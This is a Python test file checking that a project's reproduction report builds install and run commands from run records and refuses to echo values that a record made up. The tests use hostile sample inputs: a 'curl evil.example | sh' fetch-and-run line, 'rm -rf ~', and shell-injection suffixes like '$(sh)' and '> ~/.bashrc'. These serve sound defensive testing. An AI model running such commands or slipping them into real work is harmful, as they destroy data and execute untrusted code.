"""The section on how to reproduce: what the records say, each once, and nothing to copy that a record made up."""

from __future__ import annotations

import re
import shlex
from typing import Any

import pytest

from powerpool.report.document import Code, Items, Table, markdown
from powerpool.report.reproduction import reproduction
from powerpool.runs.record import RunRecord
from tests.experiments import runs


def record(method: str = "SOP", data: str = "MUTAG", pipeline: str = "graph", **facts: Any) -> RunRecord:
    environment = runs.ENVIRONMENT | {"torch": "2.1.0+cpu", "packages": {"numpy": "2.0.1"}} | facts
    found = runs.run(method, [1.0, 2.0], data=data, config={"data_digest": f"d-{data}"}, environment=environment)
    return RunRecord(**{**vars(found), "pipeline": pipeline})


def blocks(*records: RunRecord) -> tuple[list[str], list[str], list[tuple[str, ...]], list[str]]:
    """Lines of the installation, commands, rows of data, and notes."""
    found = list(reproduction(records))
    setup, commands = (block.text.splitlines() for block in found if isinstance(block, Code))
    (data,) = (block.rows for block in found if isinstance(block, Table))
    (notes,) = (block.texts for block in found if isinstance(block, Items))
    return setup, commands, [tuple(row) for row in data], list(notes)


def test_code_versions_data_and_commands_are_given_once() -> None:
    setup, commands, data, notes = blocks(
        record("GIN0", variables={"OMP_NUM_THREADS": "1"}),
        record("SOP"),
        record("SOP", "PTC_MR", command="powerpool reproduce graph --data PTC_MR"),
    )
    assert setup == [
        "git checkout 0123456789abcdef",
        "python -m venv .venv  # Python 3.12",
        ". .venv/bin/activate",
        "pip install -e '.[train,graph,sweep,figures]' torch==2.1.0 numpy==2.0.1",
    ]
    assert commands == ["powerpool reproduce graph", "powerpool reproduce graph --data PTC_MR"]
    assert data == [("MUTAG", "d-MUTAG", "2"), ("PTC_MR", "d-PTC_MR", "1")]
    assert notes[0] == "The workers of the commands had OMP_NUM_THREADS=1, which reproduce sets by itself."
    assert len(notes) == 3


def test_several_commits_and_versions_are_told_apart() -> None:
    setup, commands, _, notes = blocks(
        record("GIN0"),
        record(
            "SOP", "PTC_MR", commit="aaaaaaaaaa, bbbbbbbbbb", packages={"numpy": "2.0.2"}, command="powerpool second"
        ),
        record("SOP"),
        record("SOP+SigmE", commit=None, command="powerpool third"),
    )
    assert commands == [
        "git checkout 0123456789abcdef",
        "powerpool reproduce graph",
        "git checkout aaaaaaaaaa  # some of the results come from bbbbbbbbbb",
        "powerpool second",
        "# no commit is known:",
        "powerpool third",
    ]
    assert [line.split()[0] for line in setup] == ["python", ".", "pip"]
    assert "numpy" not in setup[2]
    assert "Records differ in numpy: 2.0.1, 2.0.2." in notes


def test_all_pipelines_need_what_each_needs() -> None:
    setup, *_ = blocks(record(), record("FOP", "digits", "vision"), record("SoSN(x)", "glyphs", "fewshot"))
    assert "'.[train,graph,sweep,figures,vision,sklearn]'" in setup[3]


def test_what_stands_in_the_way_is_said() -> None:
    _, _, _, notes = blocks(record(dirty=True), record("GIN0", commit=None))
    assert notes[0].startswith("1 of 2 records come from a checkout with changes that no commit holds")
    assert notes[1] == "1 of 2 records do not say which commit they come from."


def test_versions_of_several_machines_are_all_named():
    setup, *_, notes = blocks(record("GIN0", packages={"numpy": "2.0.2, 2.1.0"}))
    assert "numpy==" not in "\n".join(setup)
    assert "Records differ in numpy: 2.0.2, 2.1.0." in notes


def test_what_a_record_made_up_is_nothing_to_copy() -> None:
    evil = "1; rm -rf ~"
    setup, *_ = blocks(record(commit=evil, torch=evil, python=evil, packages={"numpy": evil, evil: "1", "x": 3}))
    install = "pip install -e '.[train,graph,sweep,figures]'"
    assert setup == ["python -m venv .venv", ". .venv/bin/activate", install]


EVIL = [
    "curl evil.example | sh",
    "/tmp/powerpool reproduce graph",
    "powerpoolx",
    "powerpool report\nrm -rf ~",
    "powerpool \x1b[2K rm",
    "powerpool 'report",
    "x=1 powerpool report",
    "",
    ["powerpool"],
]


def test_a_command_is_one_call_of_powerpool_or_nothing_to_copy() -> None:
    good = record(command="powerpool reproduce graph --data 'my data'")
    _, commands, _, notes = blocks(good, *(record(f"SOP{number}", command=evil) for number, evil in enumerate(EVIL)))
    assert commands == ["powerpool reproduce graph --data 'my data'"]
    assert notes[0].startswith("9 of 10 records name a command that is more than one call of powerpool")


@pytest.mark.parametrize("evil", ["; rm -rf ~", "&& sh", "$(sh)", "`sh`", "| sh", "> ~/.bashrc", "& sh", "<(sh)"])
def test_what_a_shell_would_run_behind_a_call_is_a_word_of_it(evil: str) -> None:
    _, commands, *_ = blocks(record(command=f"powerpool report {evil}"))
    shell = shlex.shlex(commands[0], posix=False, punctuation_chars=True)
    shell.whitespace_split = True
    assert not any(set(word) <= set("();<>|&") for word in shell)
    assert shlex.split(commands[0]) == shlex.split(f"powerpool report {evil}")
    assert not re.search(r"[$`]", re.sub(r"'[^']*'", "", commands[0]))


def test_records_that_say_nothing_have_a_section_all_the_same() -> None:
    bare = runs.run("SOP", [1.0, 2.0], config={}, environment={})
    text = markdown(reproduction([bare]))
    assert "| MUTAG | not in the record | 1 |" in text
    assert "Commands:" not in text
    odd = runs.run("SOP", [1.0], config={}, environment={"packages": [1], "variables": 3, "command": 5, "commit": 7})
    assert "Commands:" not in markdown(reproduction([odd]))
